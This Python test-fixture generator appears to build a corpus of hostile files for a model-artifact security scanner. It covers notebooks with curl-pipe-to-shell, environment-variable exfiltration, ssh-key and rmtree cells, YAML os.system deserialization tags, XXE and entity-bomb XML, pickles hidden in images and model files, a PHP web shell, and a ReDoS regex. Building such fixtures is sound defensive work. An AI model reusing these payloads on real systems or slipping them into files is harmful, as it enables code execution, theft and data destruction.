"""Notebooks, texts, tables and images that act, reach outside or break their reader. Frozen with the generators (scan.py, `FROZEN`)."""

from __future__ import annotations

import io
import struct
from collections.abc import Iterator

import pyarrow as pa
import pyarrow.parquet as pq
from scan_assembler import as_json, plain, whole
from scan_containers import EVIL, tarred, torch_zip


def _notebook(source: str, outputs: list[object] | None = None, kind: str = "code") -> bytes:
    cell: dict[str, object] = {"cell_type": kind, "metadata": {}, "source": [source]}
    if kind == "code":
        cell |= {"execution_count": 1, "outputs": outputs or []}
    return as_json(
        {"cells": [cell], "metadata": {"kernelspec": {"name": "python3", "display_name": "x"}}, "nbformat": 4, "nbformat_minor": 5}
    )


NOTEBOOKS = {
    "shell": "!curl http://127.0.0.1/x | sh", "shell-two": "!!touch /tmp/x", "assigned-shell": "x = !cat /etc/passwd", "bash-cell": "%%bash\ntouch /tmp/x",
    "script-cell": "%%script sh\ntouch /tmp/x", "perl-cell": "%%perl\nsystem('x')", "html-cell": "%%html\n<script>alert(1)</script>", "js-cell": "%%javascript\nalert(1)",
    "system-magic": "%system touch /tmp/x", "sx": "%sx touch /tmp/x", "run": "%run http://127.0.0.1/x.py", "load-ext": "%load_ext evil", "pip-from-url": "%pip install http://127.0.0.1/evil.whl",
    "get-ipython": "get_ipython().system('touch /tmp/x')", "run-line-magic": "get_ipython().run_line_magic('system', 'x')", "os-system": "import os\nos.system('touch /tmp/x')",
    "from-os": "from os import system as s\ns('x')", "subprocess": "import subprocess as sp\nsp.run(['x'])", "eval": "eval(input())", "exec": "exec(open('/tmp/x').read())",
    "import-builtin": "__import__('os').system('x')", "importlib": "import importlib\nimportlib.import_module('o' + 's').system('x')", "getattr": "import os\ngetattr(os, 'sys' + 'tem')('x')",
    "builtins": "__builtins__['eval']('1')", "subclasses": "().__class__.__base__.__subclasses__()", "requests-exec": "import requests\nexec(requests.get('http://127.0.0.1/').text)",
    "urlretrieve": "from urllib.request import urlretrieve\nurlretrieve('http://127.0.0.1/', 'x.sh')", "pickle-load": "import pickle\npickle.load(open('x.pkl', 'rb'))", "torch-load": "import torch\ntorch.load('x.pt', weights_only=False)",
    "socket": "import socket\nsocket.create_connection(('127.0.0.1', 9))", "ctypes": "import ctypes\nctypes.CDLL('x.so')", "codecs": "import codecs\nexec(codecs.decode('cevag', 'rot13'))", "marshal": "import marshal, base64\nexec(marshal.loads(base64.b64decode('x')))",
    "shutil": "import shutil\nshutil.rmtree('/')", "environ": "import os, requests\nrequests.post('http://127.0.0.1/', data=dict(os.environ))", "ssh-key": "open('/home/user/.ssh/authorized_keys', 'a').write('x')",
}  # fmt: skip


def documents() -> Iterator[tuple[str, str, bytes | dict[str, bytes]]]:
    for label, source in NOTEBOOKS.items():
        yield "notebook", label, _notebook(source)
    yield (
        "notebook",
        "output-script",
        _notebook(
            "1", [{"output_type": "display_data", "data": {"text/html": ["<script>fetch('http://127.0.0.1')</script>"]}, "metadata": {}}]
        ),
    )
    yield (
        "notebook",
        "output-javascript",
        _notebook("1", [{"output_type": "display_data", "data": {"application/javascript": ["alert(1)"]}, "metadata": {}}]),
    )
    yield (
        "notebook",
        "output-iframe",
        _notebook("1", [{"output_type": "display_data", "data": {"text/html": ["<iframe src='javascript:alert(1)'>"]}, "metadata": {}}]),
    )
    yield "notebook", "markdown-script", _notebook("<img src=x onerror=alert(1)>", kind="markdown")
    for label, text in {
        "apply": "!!python/object/apply:os.system ['touch /tmp/x']", "new": "a: !!python/object/new:os.system ['x']", "name": "f: !!python/name:os.system", "module": "m: !!python/module:os",
        "long-tag": "!<tag:yaml.org,2002:python/object/apply:os.system> ['x']", "declared-tag": "%TAG !e! tag:yaml.org,2002:python/object/\n--- !e!apply:os.system ['x']", "hydra": "model:\n  _target_: os.system\n  command: x",
        "hydra-partial": "model:\n  _target_: subprocess.Popen\n  _partial_: true\n  args: [x]", "second-document": "a: 1\n---\n!!python/object/apply:os.system ['x']", "laughs": "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(f"{chr(98 + n)}: &{chr(98 + n)} [{','.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(9)),
        "ruby": "--- !ruby/object:Gem::Installer\ni: x", "java": "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]",
    }.items():  # fmt: skip
        yield "yaml", label, text.encode() + b"\n"
    pmml = '<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4">{}</PMML>'
    yield (
        "pmml",
        "entity",
        ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + pmml.format("<Header>&e;</Header>")).encode(),
    )
    yield (
        "pmml",
        "laughs",
        (
            '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "xxxxxxxxxx"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
            + pmml.format("<Header>&b;</Header>")
        ).encode(),
    )
    yield (
        "pmml",
        "xinclude",
        pmml.format('<Header><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/></Header>').encode(),
    )
    yield "pmml", "script", pmml.format('<Header/><DataDictionary/><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>').encode()
    yield (
        "openvino",
        "extension",
        {
            "model.xml": b'<?xml version="1.0"?><net name="x" version="11"><layers><layer id="0" name="a" type="MyOp" version="extension"><data implements="../../evil.so"/></layer></layers><edges/></net>',
            "model.bin": bytes(8),
        },
    )
    yield (
        "openvino",
        "offset-outside",
        {
            "model.xml": b'<?xml version="1.0"?><net name="x" version="11"><layers><layer id="0" name="a" type="Const" version="opset1"><data element_type="f32" shape="2" offset="999999" size="8"/><output><port id="0" precision="FP32"><dim>2</dim></port></output></layer></layers><edges/></net>',
            "model.bin": bytes(8),
        },
    )
    yield (
        "openvino",
        "entity",
        {
            "model.xml": b'<!DOCTYPE net [<!ENTITY e SYSTEM "file:///etc/passwd">]><net name="&e;" version="11"><layers/><edges/></net>',
            "model.bin": b"",
        },
    )
    yield "xml", "stylesheet", b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://127.0.0.1/x.xsl"?><a/>'
    yield (
        "xgboost",
        "json-trailing-pickle",
        b'{"learner":{"gradient_booster":{"model":{},"name":"gbtree"},"learner_model_param":{}},"version":[2,0,0]}' + EVIL,
    )
    yield "xgboost", "ubjson-length", b"{L\0\0\0\0\0\0\0\x07learner{L\0\0\0\0\0\0\0\x01aSL\x7f\xff\xff\xff\xff\xff\xff\xffx"
    yield "xgboost", "ubjson-deep", b"{i\x07learner" + b"[" * 200_000
    yield (
        "lightgbm",
        "trailing-pickle",
        b"tree\nversion=v4\nnum_class=1\n\nend of trees\n\nparameters:\nend of parameters\n\npandas_categorical:null\n" + EVIL,
    )
    yield "msgpack", "ext-pickle", b"\x82\xa1a\xc7" + bytes([len(EVIL)]) + b"\x50" + EVIL + b"\xa1b\x01"
    yield "msgpack", "deep", b"\x91" * 200_000 + b"\xc0"
    yield "msgpack", "length", b"\x81\xa1a\xdd\xff\xff\xff\xff"
    yield "parquet", "python-extension", _parquet_extension()
    yield "parquet", "trailing", _parquet_extension("x")[:-4] + b"PAR2"
    yield "parquet", "prefix", b"x" + _parquet_extension("x")
    yield "arrow", "python-extension", _arrow_extension()
    yield "arrow", "truncated", _arrow_extension()[:-40]
    yield (
        "mlflow",
        "loader-module",
        {"MLmodel": b"flavors:\n  python_function:\n    loader_module: os\n    data: x\n    env: conda.yaml\n", "conda.yaml": b"name: x\n"},
    )
    yield (
        "mlflow",
        "code",
        {
            "MLmodel": b"flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    code: code\n    python_model: p.pkl\n",
            "code/evil.py": b"import os\nos.system('x')\n",
            "p.pkl": whole(plain([1])),
        },
    )
    yield (
        "mlflow",
        "model-code-path",
        {
            "MLmodel": b"flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: m.py\n",
            "m.py": b"import os\nos.system('x')\n",
        },
    )
    yield (
        "mlflow",
        "path-outside",
        {
            "MLmodel": b"flavors:\n  sklearn:\n    pickled_model: ../../../tmp/x.pkl\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: ../../x.pkl\n"
        },
    )
    yield (
        "mlflow",
        "requirements",
        {
            "MLmodel": b"flavors:\n  python_function:\n    loader_module: mlflow.xgboost\n    data: m.json\n    env:\n      virtualenv: python_env.yaml\n",
            "m.json": b"{}",
            "requirements.txt": b"--extra-index-url http://127.0.0.1/\nevil @ http://127.0.0.1/x.whl\n",
            "python_env.yaml": b"dependencies: ['-r requirements.txt']\n",
        },
    )
    yield "mlflow", "yaml-object", {"MLmodel": b"flavors: !!python/object/apply:os.system ['x']\n"}
    yield "python", "source", b"import os\nos.system('touch /tmp/x')\n"
    yield "image", "png-trailing-pickle", _png() + EVIL
    yield "image", "png-zip", _png() + torch_zip(EVIL)
    yield "image", "svg-script", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    yield "text", "html", b"<html><script>alert(1)</script></html>"
    yield "text", "php", b"<?php system($_GET['x']); ?>"
    yield "webdataset", "python-member", tarred({"000.png": _png(), "000.py": b"import os\nos.system('x')\n"})
    yield "webdataset", "svg-member", tarred({"000.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'})
    yield "tokenizer", "pickle", b'{"version": "1.0"}' + EVIL
    yield (
        "tokenizer",
        "regex-bomb",
        as_json(
            {
                "version": "1.0",
                "added_tokens": [],
                "normalizer": {"type": "Replace", "pattern": {"Regex": "(a+)+" * 40 + "$"}, "content": ""},
                "pre_tokenizer": None,
                "model": {"type": "BPE", "vocab": {}, "merges": []},
            }
        ),
    )


def _png() -> bytes:
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(b"\0\0"))
        + chunk(b"IEND", b"")
    )


def _extended(named: str) -> pa.Table:
    inside = {b"ARROW:extension:name": named.encode(), b"ARROW:extension:metadata": EVIL}
    return pa.table({"x": pa.array([1, 2], pa.int64())}, schema=pa.schema([pa.field("x", pa.int64(), metadata=inside)]))


def _parquet_extension(named: str = "arrow.py_extension_type") -> bytes:
    out = io.BytesIO()
    pq.write_table(_extended(named), out)
    return out.getvalue()


def _arrow_extension() -> bytes:
    table = _extended("arrow.py_extension_type")
    out = io.BytesIO()
    with pa.ipc.new_file(out, table.schema) as writer:
        writer.write_table(table)
    return out.getvalue()
